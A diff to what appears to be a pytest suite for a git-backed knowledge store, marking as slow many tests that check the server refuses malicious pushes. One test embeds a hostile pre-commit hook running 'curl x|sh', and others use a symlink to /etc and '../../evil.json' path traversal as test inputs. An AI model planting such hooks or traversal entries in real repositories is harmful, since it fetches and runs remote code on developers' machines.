@@ -122,12 +122,14 @@ def test_a_retract_that_deletes_the_record_is_refused(server, clone, held):  # n
     assert "the store has no delete" in line
 
 
+@pytest.mark.slow
 def test_an_import_that_removes_the_records_folder_is_refused(server, clone, held):  # noqa: F811
     tree = put(clone.location, root_tree(clone), [b"records"], None)
     commit = commit_tree(clone, tree, "import", "everything")
     refused_by(push(clone), server, commit, "history")
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("mode", ["120000", "160000"], ids=["symlink", "gitlink"])
 def test_records_replaced_by_a_link_is_refused(server, clone, held, mode):  # noqa: F811
     target = blob(clone.location, b"/etc") if mode == "120000" else clone.tip
@@ -140,6 +142,7 @@ def test_records_replaced_by_a_link_is_refused(server, clone, held, mode):  # no
     assert not has_object(server, commit)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("name", ["gitkb.toml", ".gitattributes"])
 def test_deleting_a_control_file_is_refused(server, clone, held, name):  # noqa: F811
     tree = put(clone.location, root_tree(clone), [name.encode()], None)
@@ -150,6 +153,7 @@ def test_deleting_a_control_file_is_refused(server, clone, held, name):  # noqa:
 # --------------------------------------------------------------------------- control files
 
 
+@pytest.mark.slow
 def test_a_rewritten_hook_config_is_refused(server, clone, held):  # noqa: F811
     evil = b"repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: sh -c 'curl x|sh'\n"
     tree = put(clone.location, root_tree(clone), [b".pre-commit-config.yaml"],
@@ -163,6 +167,7 @@ def test_a_rewritten_hook_config_is_refused(server, clone, held):  # noqa: F811
     assert ".pre-commit-config.yaml" in line
 
 
+@pytest.mark.slow
 def test_a_config_with_unknown_keys_is_refused(server, clone, held):  # noqa: F811
     config = b'[store]\nname = "x"\nformat = "gitkb-2"\nschema = "clean-1.3"\nhook = "sh"\n'
     tree = put(clone.location, root_tree(clone), [b"gitkb.toml"],
@@ -188,6 +193,7 @@ def test_a_config_with_unknown_keys_is_refused(server, clone, held):  # noqa: F8
     ],
     ids=["lone-surrogate", "nan", "duplicate-key", "huge-number"],
 )
+@pytest.mark.slow
 def test_documents_that_are_not_strict_json_are_refused(server, clone, held, mutation, needle):  # noqa: F811
     record = synthetic.strategy(2)
     text = mutation(rec.dumps(record).decode())
@@ -197,6 +203,7 @@ def test_documents_that_are_not_strict_json_are_refused(server, clone, held, mut
     assert needle in line
 
 
+@pytest.mark.slow
 def test_a_record_over_the_size_limit_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(3)
     record["payload"]["mechanism"] = "x" * (1 << 20)
@@ -206,6 +213,7 @@ def test_a_record_over_the_size_limit_is_refused(server, clone, held):  # noqa: 
     assert "over the limit" in line
 
 
+@pytest.mark.slow
 def test_a_feedback_line_with_a_number_no_double_holds_is_refused(server, clone, held):  # noqa: F811
     path = f"feedback/{held['id']}.jsonl"
     line = b'{"kind": "increment", "counts": {"applied_count": 1' + b"0" * 400 + b"}}\n"
@@ -215,6 +223,7 @@ def test_a_feedback_line_with_a_number_no_double_holds_is_refused(server, clone,
     assert "does not fit a double" in found
 
 
+@pytest.mark.slow
 def test_a_ledger_line_of_an_unknown_kind_is_refused(server, clone, held):  # noqa: F811
     path = f"ledger/{held['id']}.jsonl"
     commit = forge(clone, {path: b'{"event": "promote", "score": 99}\n'},
@@ -235,6 +244,7 @@ def test_a_ledger_line_of_an_unknown_kind_is_refused(server, clone, held):  # no
     ],
     ids=["dotdot", "dotdot-path", "dot-git", "control-byte"],
 )
+@pytest.mark.slow
 def test_entries_that_leave_a_folder_are_refused(server, clone, held, where):  # noqa: F811
     data = blob(clone.location, rec.dumps(synthetic.strategy(4)))
     tree = put(clone.location, root_tree(clone), where, ("100644", data))
@@ -242,6 +252,7 @@ def test_entries_that_leave_a_folder_are_refused(server, clone, held, where):  #
     refused_by(push(clone), server, commit, "entries")
 
 
+@pytest.mark.slow
 def test_an_empty_folder_named_dotdot_is_refused(server, clone, held):  # noqa: F811
     empty = write_tree(clone.location, [])
     tree = put(clone.location, root_tree(clone), [b"records", b".."], ("40000", empty))
@@ -249,6 +260,7 @@ def test_an_empty_folder_named_dotdot_is_refused(server, clone, held):  # noqa: 
     refused_by(push(clone), server, commit, "entries")
 
 
+@pytest.mark.slow
 def test_an_executable_record_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(5)
     data = blob(clone.location, rec.dumps(record))
@@ -259,6 +271,7 @@ def test_an_executable_record_is_refused(server, clone, held):  # noqa: F811
     assert "executable" in line
 
 
+@pytest.mark.slow
 def test_names_that_differ_in_case_only_are_refused(server, clone, held):  # noqa: F811
     data = blob(clone.location, b"# report\n")
     tree = put(clone.location, root_tree(clone), [b"reports", b"T", b"mine.md"], ("100644", data))
@@ -270,6 +283,7 @@ def test_names_that_differ_in_case_only_are_refused(server, clone, held):  # noq
     assert "case" in line
 
 
+@pytest.mark.slow
 def test_a_tree_naming_one_entry_twice_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(6)
     parts = rec.path_for(record).split("/")
@@ -301,6 +315,7 @@ def test_an_insert_over_an_existing_record_is_refused(server, clone, held):  # n
     assert "kb insert may not change" in line
 
 
+@pytest.mark.slow
 def test_a_confirm_may_not_touch_the_gain(server, clone, held):  # noqa: F811
     record = json.loads(rec.dumps(held))
     raise_gain(record)
@@ -311,6 +326,7 @@ def test_a_confirm_may_not_touch_the_gain(server, clone, held):  # noqa: F811
     assert "it changes worth.gain" in line
 
 
+@pytest.mark.slow
 def test_an_unknown_action_word_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(7)
     commit = forge(clone, record_edits({rec.path_for(record): record}), f"kb bogus {record['id']}",
@@ -321,6 +337,7 @@ def test_an_unknown_action_word_is_refused(server, clone, held):  # noqa: F811
 # --------------------------------------------------------------------------- refs
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("ref", ["refs/heads/wip", "refs/tags/v1"])
 def test_other_refs_are_refused(server, clone, held, ref):  # noqa: F811
     record = json.loads(rec.dumps(synthetic.strategy(8)))
@@ -336,6 +353,7 @@ def test_other_refs_are_refused(server, clone, held, ref):  # noqa: F811
 # --------------------------------------------------------------------------- the cache
 
 
+@pytest.mark.slow
 def test_a_forged_server_cache_lets_no_duplicate_id_through(server, clone, held):  # noqa: F811
     cache = server / "gitkb-cache" / "index.sqlite3"
     with sqlite3.connect(cache) as db:
@@ -356,6 +374,7 @@ def test_a_forged_server_cache_lets_no_duplicate_id_through(server, clone, held)
 # --------------------------------------------------------------------------- the race
 
 
+@pytest.mark.slow
 def test_concurrent_pushes_never_leave_main_citing_an_unreached_trace(tmp_path, monkeypatch):
     """Push A moves main with the records mining made from a trace and creates its trace
     ref (a plain push: git moves main first, the trace ref next); push B
@@ -412,6 +431,7 @@ def test_concurrent_pushes_never_leave_main_citing_an_unreached_trace(tmp_path, 
 # --------------------------------------------------------------------------- writers
 
 
+@pytest.mark.slow
 def test_a_trace_ref_lock_left_by_a_killed_mine_is_recovered(tmp_path):
     """A SIGKILL while mine copies a trace leaves git's lock on the trace ref and the
     writer lock's pid behind; the next mine recovers both, as after any killed writer."""
@@ -432,6 +452,7 @@ def test_a_trace_ref_lock_left_by_a_killed_mine_is_recovered(tmp_path):
     assert store.repo.resolve("refs/kb/traces/kernel_opt_001_softmax") is not None
 
 
+@pytest.mark.slow
 def test_every_writer_makes_history_the_rules_accept(tmp_path):
     """init, admit (insert, confirm, conflict), attest, retract, unretract, feedback, mine
     and a GPU-wiki import: `git kb validate --history` finds nothing; a forged commit is
@@ -479,6 +500,7 @@ def test_every_writer_makes_history_the_rules_accept(tmp_path):
 # --------------------------------------------------------------------------- other transports
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("transport", ["git-daemon", "smart-http"])
 def test_attacks_are_refused_over_git_daemon_and_smart_http(server, clone, held, tmp_path,  # noqa: F811
                                                             transport):  # fmt: skip
@@ -540,6 +562,7 @@ def test_attacks_are_refused_over_git_daemon_and_smart_http(server, clone, held,
 # --------------------------------------------------------------------------- readers
 
 
+@pytest.mark.slow
 def test_readers_survive_bad_objects_already_in_history(tmp_path, monkeypatch):
     """A store that took a lone-surrogate record, a feedback line no double holds and an
     entry named ``../../evil.json`` before these rules: every reader skips them, the
@@ -611,6 +634,7 @@ def test_a_forged_row_in_a_clone_cache_is_not_served(tmp_path):
     assert done.returncode == 1 and f"no record {ghost['id']}".encode() in done.stderr
 
 
+@pytest.mark.slow
 def test_a_ledger_for_a_record_the_store_lacks_is_refused(server, clone, held):  # noqa: F811
     ghost = "nvidia.h100.triton.softmax.never-admitted-s01"
     line = b'{"event": "attest", "outcome": "validated", "by": "x"}\n'
